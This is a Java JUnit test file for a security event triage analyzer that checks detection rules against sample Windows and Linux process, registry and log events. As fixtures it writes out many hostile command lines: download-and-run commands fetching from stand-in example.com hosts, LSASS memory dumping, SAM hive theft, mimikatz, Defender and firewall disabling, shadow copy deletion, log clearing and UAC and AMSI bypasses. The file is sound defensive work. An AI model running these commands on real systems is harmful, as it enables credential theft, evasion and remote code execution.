package dev.spoor.analyzer.triage;

import static dev.spoor.api.data.Role.ACCESS_MASK;
import static dev.spoor.api.data.Role.CHANNEL;
import static dev.spoor.api.data.Role.COMMAND_LINE;
import static dev.spoor.api.data.Role.DECODED;
import static dev.spoor.api.data.Role.EVENT_ID;
import static dev.spoor.api.data.Role.FILE_PATH;
import static dev.spoor.api.data.Role.GROUP;
import static dev.spoor.api.data.Role.HOST;
import static dev.spoor.api.data.Role.IMAGE;
import static dev.spoor.api.data.Role.ORIGIN;
import static dev.spoor.api.data.Role.PARENT_IMAGE;
import static dev.spoor.api.data.Role.PROCESS_ID;
import static dev.spoor.api.data.Role.REGISTRY_DATA;
import static dev.spoor.api.data.Role.REGISTRY_KEY;
import static dev.spoor.api.data.Role.SCRIPT;
import static dev.spoor.api.data.Role.SERVICE;
import static dev.spoor.api.data.Role.SERVICE_IMAGE;
import static dev.spoor.api.data.Role.SUBJECT_ACCOUNT;
import static dev.spoor.api.data.Role.TARGET_ACCOUNT;
import static dev.spoor.api.data.Role.TARGET_IMAGE;
import static dev.spoor.api.data.Role.TASK;
import static dev.spoor.api.data.Role.TASK_ACTION;
import static dev.spoor.api.data.Role.TIME;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.spoor.api.Finding;
import dev.spoor.api.data.Role;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.TreeSet;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Each rule by events that it must speak of and by look-alikes of which it must not, or only softly. */
class RulesTest {
    private static final String SYSTEM32 = "C:\\Windows\\System32\\";

    private static List<Finding> of(Object... rolesAndTexts) {
        Object[] row = new Object[rolesAndTexts.length + 4];
        System.arraycopy(new Object[] {HOST, "WS1.corp.example.com", TIME, "2026-03-17T08:00:00Z"}, 0, row, 0, 4);
        System.arraycopy(rolesAndTexts, 0, row, 4, rolesAndTexts.length);
        return new Table().row(row).findings(new Triage());
    }

    /** "rule SEVERITY" of each finding, sorted. */
    private static String verdict(List<Finding> findings) {
        return findings.stream()
                .map(f -> f.rule() + " " + f.severity())
                .collect(Collectors.toCollection(TreeSet::new))
                .toString();
    }

    private static List<Finding> process(String parent, String image, String line) {
        return of(
                EVENT_ID,
                "1",
                PROCESS_ID,
                "100",
                SUBJECT_ACCOUNT,
                "CORP\\ann",
                PARENT_IMAGE,
                parent,
                IMAGE,
                image,
                COMMAND_LINE,
                line);
    }

    private static String base64(String script) {
        return Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
    }

    @Test
    void linuxTellsOfUsersInWords() {
        List<Finding> added = of(EVENT_ID, "user-added", Role.TARGET_ACCOUNT, "eve", Role.TARGET_ID, "1001");
        assertEquals("[new-user MEDIUM]", verdict(added));
        assertEquals("New user eve on WS1.corp.example.com", added.get(0).title());
        assertEquals(
                added.get(0).subject(),
                of(COMMAND_LINE, "useradd -u 0 eve --shell /bin/sh").get(0).subject(),
                "the command and what it did are one finding");
        assertEquals(
                "[group-member MEDIUM]",
                verdict(of(EVENT_ID, "member-added", Role.TARGET_ACCOUNT, "eve", Role.GROUP, "sudo")));
        assertEquals("[]", verdict(of(EVENT_ID, "member-added", Role.TARGET_ACCOUNT, "eve", Role.GROUP, "audio")));
        assertEquals("[]", verdict(of(EVENT_ID, "user-not-added", Role.TARGET_ACCOUNT, "eve")));
    }

    @Test
    void sudoRefused() {
        List<Finding> refused = of(
                EVENT_ID,
                "sudo-not-allowed",
                SUBJECT_ACCOUNT,
                "eve",
                Role.TARGET_ACCOUNT,
                "root",
                COMMAND_LINE,
                "/bin/bash");
        assertEquals("[sudo-not-allowed LOW]", verdict(refused));
        assertEquals(
                "eve may not run /bin/bash as root, and tried at 2026-03-17T08:00:00Z",
                refused.get(0).reason());
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                // encoded or hidden PowerShell
                "explorer.exe | powershell.exe | powershell -w hidden -c Get-Date | [encoded-powershell MEDIUM]",
                "explorer.exe | powershell.exe | PowerShell.exe -WindowStyle 1 -File C:\\Tools\\x.ps1 | [encoded-powershell LOW]",
                "agent.exe | powershell.exe | powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\Program Files\\A\\i.ps1\" | []",
                "explorer.exe | powershell.exe | powershell -e Administrator | []",
                "msedge.exe | msedge.exe | msedge.exe --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA= | []",
                // parents
                "WINWORD.EXE | cmd.exe | cmd /c dir | [office-shell HIGH]",
                "WINWORD.EXE | C:\\Windows\\splwow64.exe | splwow64.exe 12288 | []",
                "EXCEL.EXE | rundll32.exe | rundll32 x.dll,Run | [office-shell HIGH]",
                "chrome.exe | cmd.exe | cmd.exe /c whoami | [browser-shell MEDIUM]",
                "chrome.exe | cmd.exe | cmd.exe /d /c host.bat chrome-extension://abc/ --parent-window=0 | [browser-shell LOW]",
                "services.exe | cmd.exe | cmd.exe /c echo x | [service-shell MEDIUM]",
                "services.exe | svchost.exe | svchost.exe -k netsvcs | []",
                "C:\\inetpub\\w3wp.exe | cmd.exe | cmd.exe /c whoami | [server-shell HIGH]",
                "w3wp.exe | csc.exe | csc.exe /noconfig | []",
                "sqlservr.exe | cmd.exe | cmd.exe /c type a | [server-shell MEDIUM]",
                "java.exe | cmd.exe | cmd.exe /c gradlew build | [server-shell LOW]",
                "java.exe | cmd.exe | cmd.exe /c whoami | [server-shell HIGH]",
                "wscript.exe | powershell.exe | powershell Get-Date | [script-host-shell MEDIUM]",
                "MonitoringHost.exe | cscript.exe | cscript.exe /nologo m.vbs | []",
                // download and run
                "cmd.exe | certutil.exe | certutil -urlcache -split -f http://a.example.com/x.exe C:\\Users\\Public\\x.exe | [download-and-run HIGH]",
                "cmd.exe | cmd.exe | cmd /c c^e^r^t^util -url\"\"cache -f http://a.example.com/x x | [download-and-run HIGH]",
                "cmd.exe | certutil.exe | certutil -hashfile C:\\a.zip SHA256 | []",
                "cmd.exe | bitsadmin.exe | bitsadmin /transfer j http://a.example.com/x.ps1 C:\\x.ps1 | [download-and-run HIGH]",
                "cmd.exe | bitsadmin.exe | bitsadmin /list | []",
                "explorer.exe | mshta.exe | mshta http://a.example.com/x.hta | [download-and-run HIGH]",
                "explorer.exe | regsvr32.exe | regsvr32 /s /n /u /i:http://a.example.com/x.sct scrobj.dll | [download-and-run HIGH]",
                "explorer.exe | regsvr32.exe | regsvr32 /s C:\\Program Files\\A\\a.dll | []",
                "cmd.exe | powershell.exe | powershell IEX(New-Object Net.WebClient).DownloadString('http://a.example.com/x') | [download-and-run HIGH]",
                "cmd.exe | powershell.exe | powershell iwr http://a.example.com/x.zip -OutFile C:\\Data\\x.zip | [download-and-run LOW]",
                "cmd.exe | cmd.exe | cmd /c curl -o %TEMP%\\a.exe http://a.example.com/a.exe && %TEMP%\\a.exe | [download-and-run HIGH]",
                "cmd.exe | curl.exe | curl -o a.json https://api.example.com/v1 | [download-and-run LOW]",
                "cmd.exe | msiexec.exe | msiexec /q /i http://a.example.com/x.msi | [download-and-run MEDIUM]",
                "agent.exe | msiexec.exe | msiexec /i \\\\FS01\\Deploy$\\r.msi /qn | []",
                // services, tasks, users by command
                "cmd.exe | sc.exe | sc create Upd binPath= \"cmd.exe /c start x\" | [new-service HIGH]",
                "cmd.exe | sc.exe | sc \\\\FS02 create Upd binPath= \"C:\\Program Files\\U\\u.exe\" | [new-service HIGH]",
                "cmd.exe | sc.exe | sc create Upd binPath= \"C:\\Program Files\\U\\u.exe\" | [new-service INFO]",
                "cmd.exe | sc.exe | sc query Upd | []",
                "cmd.exe | schtasks.exe | schtasks /create /tn \"A B\" /tr \"C:\\Users\\Public\\a.exe\" /sc onlogon | [new-task HIGH]",
                "cmd.exe | schtasks.exe | schtasks /create /tn U /tr \"C:\\Program Files\\U\\u.exe\" /sc daily | [new-task INFO]",
                "cmd.exe | schtasks.exe | schtasks /query | []",
                "cmd.exe | net1.exe | net1 user eve Passw0rd /add | [new-user HIGH]",
                "cmd.exe | net.exe | net user eve | []",
                "bash | sudo | /usr/sbin/useradd -m -s /bin/bash eve | [new-user MEDIUM]",
                "bash | sudo | /usr/sbin/useradd -D | []",
                "bash | vim | vim /etc/default/useradd.bak | []",
                "cmd.exe | net.exe | net localgroup Administrators eve /add | [group-member MEDIUM]",
                "cmd.exe | net.exe | net localgroup Readers eve /add | [group-member LOW]",
                // credentials
                "cmd.exe | rundll32.exe | rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\x.dmp full | [lsass-memory HIGH]",
                "cmd.exe | procdump64.exe | procdump64 -ma lsass.exe out | [lsass-memory HIGH]",
                "cmd.exe | procdump64.exe | procdump64 -ma app.exe out.dmp | []",
                "cmd.exe | reg.exe | reg save HKLM\\SAM sam.hiv | [secret-hives HIGH]",
                "cmd.exe | reg.exe | \"reg\" save HKLM\\security\\policy\\secrets x | [secret-hives HIGH]",
                "cmd.exe | reg.exe | reg save HKLM\\Software\\App app.hiv | []",
                "cmd.exe | ntdsutil.exe | ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\t\" q q | [secret-hives HIGH]",
                "cmd.exe | m.exe | m.exe privilege::debug sekurlsa::logonpasswords | [credential-tool HIGH]",
                // lateral movement
                "cmd.exe | WMIC.exe | wmic /node:FS01 process call create \"calc.exe\" | [wmi-execution MEDIUM]",
                "cmd.exe | WMIC.exe | wmic os get caption | []",
                "WmiPrvSE.exe | cmd.exe | cmd /c ipconfig | [wmi-execution MEDIUM]",
                "WmiPrvSE.exe | unsecapp.exe | unsecapp -Embedding | []",
                "wsmprovhost.exe | powershell.exe | powershell | [winrm-shell MEDIUM]",
                "svchost.exe | wsmprovhost.exe | wsmprovhost -Embedding | []",
                "cmd.exe | PsExec.exe | PsExec.exe -s cmd | [psexec MEDIUM]",
                // evasion
                "cmd.exe | wevtutil.exe | wevtutil cl Security | [log-cleared MEDIUM]",
                "cmd.exe | wevtutil.exe | wevtutil qe Security | []",
                "cmd.exe | powershell.exe | powershell Set-MpPreference -DisableRealtimeMonitoring $true | [defence-off HIGH]",
                "cmd.exe | powershell.exe | powershell Get-MpPreference | []",
                "cmd.exe | netsh.exe | netsh advfirewall set allprofiles state off | [defence-off HIGH]",
                "cmd.exe | vssadmin.exe | vssadmin delete shadows /all /quiet | [recovery-off HIGH]",
                "cmd.exe | vssadmin.exe | vssadmin list shadows | []",
                "fodhelper.exe | cmd.exe | cmd /c start x | [uac-bypass HIGH]",
                "explorer.exe | fodhelper.exe | fodhelper.exe | []",
                "cmd.exe | reg.exe | reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v A /d C:\\Users\\Public\\a.exe | [run-key MEDIUM]",
                "cmd.exe | rar.exe | rar.exe a -r -hpsecret D:\\x.rar D:\\Data | [data-packed LOW]",
            })
    void commandLines(String parent, String image, String line, String expected) {
        assertEquals(expected, verdict(process(SYSTEM32 + parent, SYSTEM32 + image, line)), line);
    }

    @Test
    void encodedCommandsAreQuotedInTheClearAndNameTheAct() {
        String script = "IEX (New-Object Net.WebClient).DownloadString('http://bad.example.com/a')";
        List<Finding> child =
                process(SYSTEM32 + "cmd.exe", SYSTEM32 + "powershell.exe", "powershell -enc " + base64(script));
        List<Finding> wrapper = process(
                SYSTEM32 + "explorer.exe",
                SYSTEM32 + "cmd.exe",
                "cmd /c p^owershell -nop -w hidden -EncodedCommand " + base64(script));
        assertEquals("[encoded-powershell HIGH]", verdict(child));
        assertEquals("[encoded-powershell HIGH]", verdict(wrapper));
        assertEquals(child.get(0).subject(), wrapper.get(0).subject());
        assertTrue(child.get(0).reason().contains(script), child.get(0)::reason);
        assertTrue(child.get(0).entities().toString().contains("bad.example.com"));
        List<Finding> decoded = of(DECODED, script, COMMAND_LINE, "powershell -enc " + base64(script));
        assertEquals(child.get(0).subject(), decoded.get(0).subject());
        List<Finding> inService = of(DECODED, script);
        assertEquals(child.get(0).subject(), inService.get(0).subject());
    }

    @Test
    void decodedTextOfOtherProgramsNeedsToReadLikeAnAttack() {
        assertEquals(
                "[]",
                verdict(of(
                        DECODED, "hello world, this is settings", COMMAND_LINE, "app.exe --state=aGVsbG8gd29ybGQ=")));
        assertEquals(
                "[encoded-powershell HIGH]",
                verdict(of(DECODED, "IEX(New-Object Net.WebClient).DownloadString('http://x')")));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "C:\\Windows\\System32\\rundll32.exe | 0x1410 | [lsass-memory HIGH]",
                "C:\\Users\\Public\\a.exe | 0x1010 | [lsass-memory HIGH]",
                "C:\\Users\\Public\\a.exe | 0x1400 | []",
                "C:\\Windows\\System32\\svchost.exe | 0x1410 | []",
                "C:\\Users\\Public\\svchost.exe | 0x1410 | [lsass-memory HIGH]",
                "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe | 0x1fffff | []",
                "C:\\Users\\Public\\MsMpEng.exe | 0x1fffff | [lsass-memory HIGH]",
                "C:\\Program Files\\Agent\\agent.exe | 0x1410 | [lsass-memory LOW]",
            })
    void readersOfLsass(String image, String mask, String expected) {
        assertEquals(
                expected,
                verdict(of(
                        EVENT_ID,
                        "10",
                        IMAGE,
                        image,
                        PROCESS_ID,
                        "9",
                        TARGET_IMAGE,
                        SYSTEM32 + "lsass.exe",
                        ACCESS_MASK,
                        mask)));
    }

    @Test
    void theDumpAndTheAccessAreOneFinding() {
        String line = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\x.dmp full";
        Finding dump =
                process(SYSTEM32 + "cmd.exe", SYSTEM32 + "rundll32.exe", line).get(0);
        Finding access = of(
                        EVENT_ID,
                        "10",
                        IMAGE,
                        SYSTEM32 + "rundll32.exe",
                        PROCESS_ID,
                        "100",
                        TARGET_IMAGE,
                        SYSTEM32 + "lsass.exe",
                        ACCESS_MASK,
                        "0x1410")
                .get(0);
        assertEquals(dump.subject(), access.subject());
        assertEquals(dump.rule(), access.rule());
    }

    @Test
    void servicesAndTasksAndUsersFoldWithTheCommandsThatMadeThem() {
        String image = "cmd.exe /c start x";
        Finding logged =
                of(EVENT_ID, "7045", SERVICE, "Upd", SERVICE_IMAGE, image).get(0);
        Finding security =
                of(EVENT_ID, "4697", SERVICE, "Upd", SERVICE_IMAGE, image).get(0);
        Finding made = process(SYSTEM32 + "cmd.exe", SYSTEM32 + "sc.exe", "sc create Upd binPath= \"" + image + "\"")
                .get(0);
        Finding key = of(
                        EVENT_ID,
                        "13",
                        REGISTRY_KEY,
                        "HKLM\\System\\CurrentControlSet\\Services\\Upd\\ImagePath",
                        REGISTRY_DATA,
                        image)
                .get(0);
        for (Finding finding : List.of(logged, security, made, key)) {
            assertEquals(
                    "new-service HIGH ws1|upd", finding.rule() + " " + finding.severity() + " " + finding.subject());
        }
        String xml =
                "<Task><Actions><Exec><Command>C:\\Users\\Public\\a.exe</Command><Arguments>/b</Arguments></Exec></Actions></Task>";
        Finding task = of(EVENT_ID, "4698", TASK, "\\A B", TASK_ACTION, xml).get(0);
        Finding schtasks = process(
                        SYSTEM32 + "cmd.exe",
                        SYSTEM32 + "schtasks.exe",
                        "schtasks /create /tn \"A B\" /tr C:\\Users\\Public\\a.exe")
                .get(0);
        assertEquals("new-task HIGH ws1|a b", task.rule() + " " + task.severity() + " " + task.subject());
        assertEquals(task.subject(), schtasks.subject());
        Finding user = of(EVENT_ID, "4720", TARGET_ACCOUNT, "eve").get(0);
        Finding net = process(SYSTEM32 + "cmd.exe", SYSTEM32 + "net1.exe", "net1 user eve x /add")
                .get(0);
        assertEquals(user.subject(), net.subject());
    }

    @Test
    void bothEndsOfWmiAreOneFinding() {
        Finding client = process(
                        SYSTEM32 + "cmd.exe",
                        SYSTEM32 + "WMIC.exe",
                        "wmic /node:WS1 process call create \"cmd.exe /c ipconfig\"")
                .get(0);
        Finding server = process(SYSTEM32 + "WmiPrvSE.exe", SYSTEM32 + "cmd.exe", "cmd.exe /c ipconfig")
                .get(0);
        assertEquals(client.subject(), server.subject());
    }

    @Test
    void otherEvents() {
        assertEquals(
                "[new-service INFO]",
                verdict(of(EVENT_ID, "7045", SERVICE, "U", SERVICE_IMAGE, "\"C:\\Program Files\\U\\u.exe\" /svc")));
        assertEquals(
                "[new-service LOW, psexec MEDIUM]",
                verdict(of(EVENT_ID, "7045", SERVICE, "PSEXESVC", SERVICE_IMAGE, "%SystemRoot%\\PSEXESVC.exe")));
        assertEquals("[new-task INFO]", verdict(of(EVENT_ID, "106", TASK, "\\U")));
        assertEquals("[group-member MEDIUM]", verdict(of(EVENT_ID, "4732", GROUP, "Administrators")));
        assertEquals("[]", verdict(of(EVENT_ID, "4732", GROUP, "Readers")));
        assertEquals("[log-cleared MEDIUM]", verdict(of(EVENT_ID, "1102")));
        assertEquals("[log-cleared MEDIUM]", verdict(of(EVENT_ID, "104", CHANNEL, "System")));
        assertEquals("[]", verdict(of(EVENT_ID, "104", CHANNEL, "Other")));
        String run = "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\";
        assertEquals(
                "[run-key MEDIUM]",
                verdict(of(EVENT_ID, "13", REGISTRY_KEY, run + "A", REGISTRY_DATA, "C:\\Users\\Public\\a.exe /bg")));
        assertEquals(
                "[run-key LOW]",
                verdict(of(
                        EVENT_ID,
                        "13",
                        REGISTRY_KEY,
                        run + "OneDrive",
                        REGISTRY_DATA,
                        "\"C:\\Users\\ann\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background")));
        assertEquals(
                "[run-key INFO]",
                verdict(of(EVENT_ID, "13", REGISTRY_KEY, run + "U", REGISTRY_DATA, "C:\\Program Files\\U\\u.exe")));
        assertEquals(
                "[uac-bypass HIGH]",
                verdict(of(
                        EVENT_ID,
                        "13",
                        REGISTRY_KEY,
                        "HKU\\S-1-5-21-1_Classes\\ms-settings\\shell\\open\\command\\(Default)",
                        REGISTRY_DATA,
                        "cmd")));
        assertEquals("[]", verdict(of(EVENT_ID, "13", REGISTRY_KEY, "HKLM\\Software\\X", REGISTRY_DATA, "1")));
        assertEquals(
                "[share-write MEDIUM]",
                verdict(of(EVENT_ID, "5145", FILE_PATH, "Windows\\Temp\\a.exe", ACCESS_MASK, "0x2")));
        assertEquals("[share-write LOW]", verdict(of(EVENT_ID, "5145", FILE_PATH, "Setup\\a.exe", ACCESS_MASK, "0x2")));
        assertEquals("[]", verdict(of(EVENT_ID, "5145", FILE_PATH, "Setup\\a.exe", ACCESS_MASK, "0x1")));
        assertEquals("[]", verdict(of(EVENT_ID, "5145", FILE_PATH, "PSEXESVC", ACCESS_MASK, "0x12019f")));
        assertEquals(
                "[suspicious-script HIGH]",
                verdict(of(EVENT_ID, "4104", SCRIPT, "iex (New-Object Net.WebClient).DownloadString('http://x')")));
        assertEquals(
                "[suspicious-script LOW]",
                verdict(of(EVENT_ID, "4104", SCRIPT, "Invoke-WebRequest https://x.example.com -OutFile y")));
        assertEquals("[]", verdict(of(EVENT_ID, "4104", SCRIPT, "Get-ChildItem C:\\")));
        assertEquals(
                "[run-key LOW]",
                verdict(of(
                        EVENT_ID,
                        "11",
                        FILE_PATH,
                        "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.lnk")));
    }

    @Test
    void modulesDoWhatStagersDo() {
        String both = "Invoke-WebRequest $u; Invoke-Expression $x";
        assertEquals("[suspicious-script HIGH]", verdict(of(EVENT_ID, "4104", SCRIPT, both)));
        assertEquals("[suspicious-script LOW]", verdict(of(EVENT_ID, "4104", SCRIPT, both + "\n# ".repeat(2_000))));
        assertEquals(
                "[suspicious-script LOW]",
                verdict(of(
                        EVENT_ID,
                        "4104",
                        SCRIPT,
                        both,
                        FILE_PATH,
                        "C:\\Program Files\\WindowsPowerShell\\Modules\\P\\P.psm1")));
        assertEquals("[suspicious-script MEDIUM]", verdict(of(EVENT_ID, "4104", SCRIPT, "$x = 'amsiInitFailed'")));
        assertEquals(
                "[suspicious-script HIGH]",
                verdict(of(EVENT_ID, "4104", SCRIPT, "Invoke-Mimikatz; iex $x" + " ".repeat(9_000))));
    }

    @Test
    void rowsWithoutAPlaceAreJudgedToo() {
        Table table = new Table().row(EVENT_ID, "1102");
        table.rows().get(0).remove(ORIGIN);
        assertEquals("[log-cleared MEDIUM]", verdict(table.findings(new Triage())));
    }

    @Test
    void rowsThatSayLittleHurtNobody() {
        assertEquals(
                "[]",
                verdict(new Table()
                        .row()
                        .row(EVENT_ID, "x")
                        .row(COMMAND_LINE, "")
                        .row(DECODED, "-")
                        .row(EVENT_ID, "10", TARGET_IMAGE, "lsass.exe", ACCESS_MASK, "what")
                        .findings(new Triage())));
        assertEquals("[]", verdict(process("", "", "powershell -enc")));
        assertEquals(
                "[]",
                verdict(process("", "", "schtasks /create /tn").stream()
                        .filter(f -> f.severity().ordinal() > 1)
                        .toList()));
    }
}
